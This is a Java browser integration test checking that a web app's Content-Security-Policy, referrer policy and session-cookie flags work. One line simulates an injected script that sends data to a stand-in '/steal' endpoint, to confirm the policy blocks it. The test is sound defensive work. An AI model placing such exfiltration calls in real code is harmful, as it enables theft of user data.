package org.credence.journey;

import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Page;
import com.microsoft.playwright.Response;
import com.microsoft.playwright.options.Cookie;
import java.net.http.HttpClient;
import java.net.http.HttpResponse;
import java.util.ArrayList;
import java.util.List;
import org.credence.TestCorpus;
import org.credence.document.DocumentService;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;

/**
 * The UI runs whole under its Content-Security-Policy (Vaadin's bootstrap, Push, the Reader's script,
 * labelling with a key) with no violation reported, the policy really blocks a request to another
 * origin, and the session cookie is SameSite=Lax and HttpOnly.
 */
class BrowserProtectionsIT extends AbstractBrowserIT {

    @Autowired
    DocumentService documents;

    @Test
    void the_app_works_under_its_content_security_policy_which_blocks_other_origins() throws Exception {
        long documentId = TestCorpus.importText(documents, "Officials said the bridge was closed on Monday.");
        Page page = browser.newPage();
        List<String> violations = new ArrayList<>();
        page.onConsoleMessage(m -> {
            if (m.text().contains("Content Security Policy")) {
                violations.add(m.text());
            }
        });

        Response login = page.navigate(url("/login"));
        assertThat(login.headerValue("content-security-policy"))
                .contains("default-src 'self'")
                .contains("object-src 'none'")
                .contains("frame-ancestors 'none'")
                .contains("connect-src 'self'");
        assertThat(login.headerValue("referrer-policy")).isEqualTo("same-origin");
        signIn(page, "reviewer1");
        openReader(page, documentId);
        Journeys.dragOver(page, "Officials said the bridge");
        page.keyboard().press("1");
        page.locator("#document-text mark.cr-confirmed").waitFor();
        for (String path : List.of("/", "/claims", "/search?q=bridge", "/history/document/" + documentId)) {
            page.navigate(url(path));
            BrowserSession.awaitVaadin(page);
        }
        assertThat(violations)
                .as("Vaadin's bootstrap, Push and our scripts run under the policy")
                .isEmpty();

        Cookie session = page.context().cookies().stream()
                .filter(c -> c.name.equals("JSESSIONID"))
                .findFirst()
                .orElseThrow();
        assertThat(session.sameSite).hasToString("LAX");
        assertThat(session.httpOnly).isTrue();

        Object blocked = page.evaluate("""
                () => new Promise(resolve => {
                  document.addEventListener('securitypolicyviolation', e => resolve(e.violatedDirective), {once: true});
                  fetch('http://127.0.0.1:9/steal?data=1').catch(() => {});
                })""");
        assertThat(blocked).as("injected script could not send data elsewhere").isEqualTo("connect-src");
        page.context().close();
    }

    @Test
    void api_answers_carry_a_policy_under_which_nothing_in_them_runs() throws Exception {
        HttpResponse<String> answer = HttpClient.newHttpClient()
                .send(api("/api/documents", "reviewer1").build(), HttpResponse.BodyHandlers.ofString());

        assertThat(answer.headers().firstValue("Content-Security-Policy"))
                .hasValue("default-src 'none'; frame-ancestors 'none'; sandbox");
        assertThat(answer.headers().firstValue("Referrer-Policy")).hasValue("no-referrer");
    }
}
